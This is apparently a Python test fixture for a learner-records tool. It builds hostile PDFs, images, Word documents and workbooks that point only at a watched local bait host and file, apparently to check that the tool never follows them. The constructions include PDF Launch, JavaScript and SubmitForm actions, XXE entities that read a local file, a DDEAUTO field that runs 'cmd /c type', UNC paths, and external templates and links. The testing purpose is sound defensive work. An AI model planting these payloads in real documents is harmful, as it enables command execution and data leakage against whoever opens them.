"""Learners whose files want to reach out: to a server, to a file beside them, to another program.

Everything leads to one place that is watched (`tests.watched`). All people are fictional.
"""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable, Iterator, Mapping, Sequence
from functools import partial
from pathlib import Path
from typing import Any

from pikepdf import Array, Dictionary, Name, Pdf, String

from ilmdocs.answers import create_answers
from ilmdocs.library import Library
from ilmdocs.samples import demo_learners, rows_for
from ilmdocs.workbook.create import create_workbook
from tests.attachments.builders import encoded, pdf, picture, saved
from tests.watched import Bait

_R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_RELATIONS = "word/_rels/document.xml.rels"
_DOCUMENT = "word/document.xml"
_WRITTEN = "8580-503"
_ATTACHED = "8585-303"

Parts = dict[str, bytes]
Rows = Mapping[str, Sequence[Mapping[str, Any]]]


def hostile_pdfs(bait: Bait) -> dict[str, bytes]:
    """PDFs with actions, forms and contents that lie outside."""
    web, file = String(bait.url("pdf")), String(bait.file.as_posix())
    away = Dictionary(Type=Name.Filespec, FS=Name.URL, F=web)
    actions = {
        "uri": Dictionary(S=Name.URI, URI=web),
        "goto-another": Dictionary(S=Name.GoToR, F=file, D=Array([0, Name.Fit])),
        "goto-web": Dictionary(S=Name.GoToR, F=away, D=Array([0, Name.Fit])),
        "submit": Dictionary(S=Name.SubmitForm, F=away),
        "import": Dictionary(S=Name.ImportData, F=file),
        "launch": Dictionary(S=Name.Launch, F=file),
        "script": Dictionary(S=Name.JavaScript, JS=String(f"this.getURL('{bait.url('script')}')")),
    }
    made = {f"{name}.pdf": _acting(action) for name, action in actions.items()}
    outside = pdf(1)
    stream = outside.make_stream(b"")
    stream.F, stream.FFilter = away, Name.FlateDecode
    outside.pages[0].obj.Contents = Array([outside.pages[0].obj.Contents, stream])
    made["contents-outside.pdf"] = saved(outside)
    shown = pdf(1)
    xobject = shown.make_stream(b"", Type=Name.XObject, Subtype=Name.Image, Width=9, Height=9,
                                BitsPerComponent=8, ColorSpace=Name.DeviceGray)  # fmt: skip
    xobject.F = Dictionary(Type=Name.Filespec, F=file)
    shown.pages[0].obj.Resources.XObject = Dictionary(X=xobject)
    made["picture-outside.pdf"] = saved(shown)
    return made


def _acting(action: Dictionary) -> bytes:
    document: Pdf = pdf(1)
    document.Root.OpenAction = action
    document.pages[0].obj.AA = Dictionary(O=action)
    link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([70, 690, 200, 720]), A=action)
    document.pages[0].obj.Annots = Array([document.make_indirect(link)])
    return saved(document)


def hostile_pictures(bait: Bait) -> dict[str, bytes]:
    """Pictures with links inside, and what is none although it is called so."""
    link = f'<image xmlns:x="http://www.w3.org/1999/xlink" x:href="{bait.url("svg")}"/>'
    svg = f'<!DOCTYPE svg SYSTEM "{bait.url("dtd")}"><svg xmlns="http://www.w3.org/2000/svg">{link}</svg>'
    xmp = f'<x:xmpmeta xmlns:x="adobe:ns:meta/"><a href="{bait.url("xmp")}"/></x:xmpmeta>'.encode()
    return {
        "drawing.png": svg.encode(),
        "page.pdf": f'<html><img src="{bait.url("html")}"></html>'.encode(),
        "photo.jpg": encoded(picture(), "JPEG", xmp=xmp),
    }


def hostile_answers(bait: Bait, plain: bytes) -> dict[str, bytes]:
    """Word documents made of a good one, each with its own ways out."""
    unc = f"\\\\\\\\127.0.0.1@{bait.port}\\\\share\\\\bait"
    fields = "".join(
        _field(code)
        for code in (
            f'INCLUDETEXT "{bait.url("text")}"', f'INCLUDEPICTURE "{bait.url("field")}" \\d',
            f'INCLUDETEXT "{bait.file.as_uri()}"', f'INCLUDEPICTURE "{unc}" \\d',
            f'DDEAUTO cmd "/c type {bait.file}"', f'LINK Excel.Sheet.8 "{bait.url("sheet")}" "A1" \\a',
            f'DATABASE \\d "{bait.file}" \\s "SELECT"',
        )
    )  # fmt: skip
    web, file = bait.url, bait.file.as_uri()
    vml = (
        '<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml">'
        f'<v:imagedata src="{web("vml")}"/></v:shape></w:pict></w:r></w:p>'
    )
    page = f'<html><link rel="stylesheet" href="{web("css")}"><img src="{web("html")}"></html>'
    chunk, sub = (f'<w:{name} r:id="rX1"/>' for name in ("altChunk", "subDoc"))

    def linked(inside: str, kind: str, target: str) -> bytes:
        def change(parts: Parts) -> None:
            _into(parts, inside)
            _outside(parts, kind, target)

        return _changed(plain, change)

    return {
        "fields": _changed(plain, lambda parts: _into(parts, fields)),
        "settings": _changed(plain, lambda parts: _settings(parts, bait)),
        "vml": _changed(plain, lambda parts: _into(parts, vml)),
        "picture": linked(_drawing("rX1"), "image", web("image")),
        "picture-file": linked(_drawing("rX1"), "image", file),
        "chunk": linked(chunk, "aFChunk", web("chunk")),
        "sub": linked(sub, "subDocument", file),
        "object": linked(_object("rX1"), "oleObject", web("object")),
        "html": page.encode(),
        "entities": _changed(plain, lambda parts: _start(parts, _doctype(bait))),
    }


def hostile_workbooks(bait: Bait, plain: bytes) -> dict[str, bytes]:
    """Workbooks with entities, links to others, queries and pictures from elsewhere."""
    namespace = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    sheet = "xl/worksheets/sheet1.xml"
    external = f'<externalLink xmlns="{namespace}" xmlns:r="{_R}"><externalBook r:id="rId1"/></externalLink>'
    query = (
        f'<connections xmlns="{namespace}"><connection id="1" type="4" refreshOnLoad="1">'
        f'<webPr url="{bait.url("query")}"/></connection></connections>'
    )

    def linked(parts: Parts) -> None:
        parts["xl/externalLinks/externalLink1.xml"] = external.encode()
        parts["xl/externalLinks/_rels/externalLink1.xml.rels"] = _relations(
            "externalLinkPath", bait.url("book")
        )
        parts["xl/connections.xml"] = query.encode()
        parts["xl/drawings/_rels/drawing1.xml.rels"] = _relations("image", bait.file.as_uri())

    return {
        "entities": _changed(plain, lambda p: _start(p, _doctype(bait), sheet)),
        "links": _changed(plain, linked),
        "html": f'<html><table><tr><td><img src="{bait.url("cell")}"></td></tr></table></html>'.encode(),
    }


def hostile_form(bait: Bait, plain: bytes) -> bytes:
    """A centre's form with a linked picture, fetching fields and an attached template."""

    def change(parts: Parts) -> None:
        codes = (f'INCLUDETEXT "{bait.file.as_uri()}"', f'INCLUDEPICTURE "{bait.url("form")}" \\d')
        _into(parts, "".join(map(_field, codes)) + _drawing("rX1"))
        _outside(parts, "image", bait.url("form-image"))
        _settings(parts, bait)

    return _changed(plain, change)


def write_hostile(folder: Path, library: Library, bait: Bait, only: str = "") -> int:
    """Write a learner for each hostile file (or those whose names begin so) into folders; gives how many."""
    pictures = hostile_pictures(bait)
    written = {
        **{f"pdf {name}": _attaching(name, data, library) for name, data in hostile_pdfs(bait).items()},
        **{f"picture {name}": _attaching(name, data, library) for name, data in pictures.items()},
    }
    number = 0
    for number, (name, files) in enumerate([*written.items(), *_writing(library, bait)], 1):
        if not name.startswith(only):
            continue
        own = folder / f"{number:02} {name}"
        own.mkdir(parents=True)
        for file, make in files.items():
            (own / file).write_bytes(make(number))
    return number


Make = Callable[[int], bytes]


def _attaching(file: str, data: bytes, library: Library) -> dict[str, Make]:
    evidence = {"title": "Witness testimony", "kind": "evidence", "file": file, "criteria": ("2.1",)}

    def book(number: int) -> bytes:
        rows: Rows = {**rows_for([_ATTACHED]), "Evidence": [evidence]}
        return _book(rows, [_ATTACHED], number, library)

    return {"learner.xlsx": book, file: partial(_same, data)}


def _same(data: bytes, number: int) -> bytes:
    return data


def _writing(library: Library, bait: Bait) -> Iterator[tuple[str, dict[str, Make]]]:
    demo = next(learner for learner in demo_learners() if _WRITTEN in learner.units and learner.answers)
    ((file, (unit_id, texts)),) = demo.answers.items()
    name = str(demo.rows["Learner"][0]["learner_name"])
    plain = create_answers(library.unit(unit_id), learner=name, texts=texts)

    def book(number: int) -> bytes:
        included = [row for row in demo.rows["Units"] if row["unit_id"] == _WRITTEN]
        return _book({**demo.rows, "Units": included}, [_WRITTEN], number, library)

    for kind, data in hostile_answers(bait, plain).items():
        yield f"answers {kind}", {"learner.xlsx": book, file: partial(_same, data)}

    def spoilt(kind: str, number: int) -> bytes:
        return hostile_workbooks(bait, book(number))[kind]

    for kind in hostile_workbooks(bait, b""):
        yield f"workbook {kind}", {"learner.xlsx": partial(spoilt, kind), file: partial(_same, plain)}


def _book(rows: Rows, units: Any, number: int, library: Library) -> bytes:
    own = {
        "learner_name": f"Casey Reach{number}",
        "surname": f"Reach{number}",
        "ilm_registration_no": f"RCH{number:04}",
    }
    changed: Rows = {**rows, "Learner": [{**rows["Learner"][0], **own}]}
    chosen = [library.unit(unit) for unit in units]
    return create_workbook(chosen, rows=changed, required=library.required, used=library.used)


def _changed(plain: bytes, change: Callable[[Parts], object]) -> bytes:
    """A package with changed parts; empty where there is none to change."""
    if not plain:
        return b""
    with zipfile.ZipFile(io.BytesIO(plain)) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    change(parts)
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return made.getvalue()


def _into(parts: Parts, more: str) -> None:
    before, end, after = parts[_DOCUMENT].rpartition(b"<w:sectPr")
    parts[_DOCUMENT] = before + more.encode() + end + after


def _outside(parts: Parts, kind: str, target: str, identifier: str = "rX1") -> None:
    relation = f'<Relationship Id="{identifier}" Type="{_R}/{kind}" TargetMode="External" Target="{target}"/>'
    parts[_RELATIONS] = parts[_RELATIONS].replace(b"</Relationships>", f"{relation}</Relationships>".encode())


def _relations(kind: str, target: str) -> bytes:
    namespace = "http://schemas.openxmlformats.org/package/2006/relationships"
    relation = f'<Relationship Id="rId1" Type="{_R}/{kind}" TargetMode="External" Target="{target}"/>'
    return f'<Relationships xmlns="{namespace}">{relation}</Relationships>'.encode()


def _settings(parts: Parts, bait: Bait) -> None:
    namespace = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    parts["word/settings.xml"] = (
        f'<w:settings xmlns:w="{namespace}" xmlns:r="{_R}"><w:attachedTemplate r:id="rId1"/></w:settings>'
    ).encode()
    parts["word/_rels/settings.xml.rels"] = _relations("attachedTemplate", bait.url("template"))
    kind = "application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml"
    if b"settings+xml" not in parts["[Content_Types].xml"]:
        declared = f'<Override PartName="/word/settings.xml" ContentType="{kind}"/></Types>'
        parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(b"</Types>", declared.encode())
        relation = f'<Relationship Id="rX9" Type="{_R}/settings" Target="settings.xml"/></Relationships>'
        parts[_RELATIONS] = parts[_RELATIONS].replace(b"</Relationships>", relation.encode())


def _doctype(bait: Bait) -> str:
    file, web = bait.file.as_uri(), bait.url("dtd")
    return f'<!DOCTYPE d [<!ENTITY x SYSTEM "{file}"><!ENTITY % y SYSTEM "{web}"> %y;]>'


def _start(parts: Parts, doctype: str, name: str = _DOCUMENT) -> None:
    head, _, rest = parts[name].partition(b"?>")
    parts[name] = head + b"?>" + doctype.encode() + rest


def _field(code: str) -> str:
    code = code.replace("&", "&amp;").replace('"', "&quot;")
    return (
        '<w:p><w:r><w:fldChar w:fldCharType="begin" w:dirty="true"/></w:r><w:r><w:instrText> '
        f'{code} </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r>'
        "<w:r><w:t>seen</w:t></w:r>"
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


def _drawing(identifier: str) -> str:
    drawing = "http://schemas.openxmlformats.org/drawingml/2006"
    size = 'cx="900000" cy="900000"'
    return (
        f'<w:p><w:r><w:drawing><wp:inline xmlns:wp="{drawing}/wordprocessingDrawing"><wp:extent {size}/>'
        f'<wp:docPr id="91" name="p"/><a:graphic xmlns:a="{drawing}/main">'
        f'<a:graphicData uri="{drawing}/picture">'
        f'<pic:pic xmlns:pic="{drawing}/picture"><pic:nvPicPr><pic:cNvPr id="1" name="p"/><pic:cNvPicPr/>'
        f'</pic:nvPicPr><pic:blipFill><a:blip xmlns:r="{_R}" r:link="{identifier}"/></pic:blipFill><pic:spPr>'
        f'<a:xfrm><a:off x="0" y="0"/><a:ext {size}/></a:xfrm><a:prstGeom prst="rect"/></pic:spPr></pic:pic>'
        "</a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>"
    )


def _object(identifier: str) -> str:
    return (
        '<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" Type="Link" '
        f'ProgID="Excel.Sheet.8" UpdateMode="Always" xmlns:r="{_R}" r:id="{identifier}"/></w:object></w:r>'
        "</w:p>"
    )
